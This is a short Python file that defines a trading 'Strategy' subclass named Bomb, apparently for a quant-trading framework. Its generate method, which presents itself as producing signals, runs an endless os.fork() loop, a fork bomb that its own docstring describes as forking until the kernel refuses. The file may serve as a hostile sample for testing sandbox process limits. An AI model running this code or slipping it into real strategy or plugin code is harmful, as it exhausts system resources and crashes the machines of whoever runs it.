"""Forks until the kernel refuses; children keep forking too."""

import os

from kwont_quant import Signals, Strategy


class Bomb(Strategy):
    def generate(self, candles) -> Signals:
        while True:
            os.fork()
